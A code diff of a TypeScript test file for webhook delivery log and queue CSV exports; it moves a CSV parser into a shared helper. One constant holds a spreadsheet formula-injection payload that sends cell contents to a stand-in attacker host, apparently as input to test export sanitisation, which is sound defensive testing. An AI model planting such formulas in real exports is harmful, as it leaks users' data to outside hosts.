@@ -10,44 +10,12 @@ import { startWebhookReceiver, type WebhookReceiver } from '../testing/webhook-r
 import { DEMO_USERS } from '../seed/demo-seed.ts';
 import { apiPaths } from '../../../shared/api-paths.ts';
 import { WEBHOOK_LOG_CSV_COLUMNS, WEBHOOK_QUEUE_CSV_COLUMNS } from '../../../shared/schemas/webhook.ts';
+import { parseCsv } from '../testing/csv-parse.ts';
 
 const SLOW_RETRY = { retry: { firstDelayMs: 600_000, maxDelayMs: 600_000, giveUpAfterMs: 86_400_000, jitter: 0 }, pollIntervalMs: 50 };
 const FORMULA_TITLE = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")';
 const ISO = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{3})?Z$/;
 
-/** Splits RFC 4180 CSV into rows of fields (quoted fields may hold commas, quotes and newlines). */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  const endField = () => {
-    row.push(field);
-    field = '';
-  };
-  for (let index = 0; index < text.length; index++) {
-    const character = text[index]!;
-    if (quoted) {
-      if (character === '"' && text[index + 1] === '"') {
-        field += '"';
-        index++;
-      } else if (character === '"') quoted = false;
-      else field += character;
-    } else if (character === '"') quoted = true;
-    else if (character === ',') endField();
-    else if (character === '\r' && text[index + 1] === '\n') {
-      endField();
-      rows.push(row);
-      row = [];
-      index++;
-    } else field += character;
-  }
-  if (field !== '' || row.length > 0) {
-    endField();
-    rows.push(row);
-  }
-  return rows;
-}
 
 describe('webhook delivery log and queue', () => {
   let server: TestServer;
